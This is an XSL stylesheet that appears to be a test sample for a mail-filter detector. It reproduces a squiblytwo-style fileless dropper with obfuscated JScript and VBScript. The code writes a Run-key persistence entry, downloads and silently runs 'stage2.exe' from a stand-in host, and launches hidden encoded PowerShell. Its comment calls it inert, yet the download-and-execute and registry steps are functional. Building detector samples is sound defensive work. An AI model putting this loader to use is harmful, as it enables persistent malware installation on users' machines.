<?xml version="1.0"?>
<!-- test stylesheet written for fileless-milter (inert): the shape `wmic os get /format:URL`
     and squiblytwo droppers use. The Run-key path, the launcher and the download URL exist
     only at run time; the payloads only print text. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:ms="urn:schemas-microsoft-com:xslt" xmlns:user="urn:inert-test" xmlns:vb="urn:inert-test-vb">
<xsl:output method="text"/>
<ms:script implements-prefix="user" language="JScript">
<![CDATA[
var k = [72, 75, 67, 85, 92, 83, 111, 102, 116, 119, 97, 114, 101, 92];
function s(a, d) { var r = ""; for (var i = 0; i < a.length; i++) r += String.fromCharCode(a[i] + (d || 0)); return r; }
var sh = new ActiveXObject(["WScr", "ipt.", "Sh", "ell"].join(""));
var key = s(k) + ["Micro", "soft\\Windows\\Curr", "entVersion\\R", "un\\sync"].join("");
sh.RegWrite(key, ["msh", "ta vbscr", "ipt:Execute(\"CreateObject(\"\"WScript.Shell\"\").Popup \"\"inert test\"\"\")(window.close)"].join(""), "REG_SZ");
function fetch(n) {
    var h = new ActiveXObject("MSXML2." + "XMLHTTP");
    h.open("GET", "http://" + ["dl", "example", "invalid"].join(".") + "/" + "st" + "age2.exe", false);
    h.send();
    var st = new ActiveXObject("ADODB." + "Stream");
    st.Open(); st.Type = 1; st.Write(h.responseBody);
    var path = sh.ExpandEnvironmentStrings("%TEMP%") + "\\stage2.exe";
    st.SaveToFile(path, 2); st.Close();
    sh.Run(path, 0, false);
    return "ok";
}
]]>
</ms:script>
<ms:script implements-prefix="vb" language="VBScript">
<![CDATA[
Function go()
  Set w = CreateObject("WScript.Shell")
  w.Run "powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGkAbgBlAHIAdAAgAHQAZQBzAHQAIABwAGEAeQBsAG8AYQBkACIA", 0
  go = ""
End Function
]]>
</ms:script>
<xsl:template match="/">
  <xsl:value-of select="user:fetch(string(.))"/>
  <xsl:value-of select="vb:go()"/>
</xsl:template>
</xsl:stylesheet>
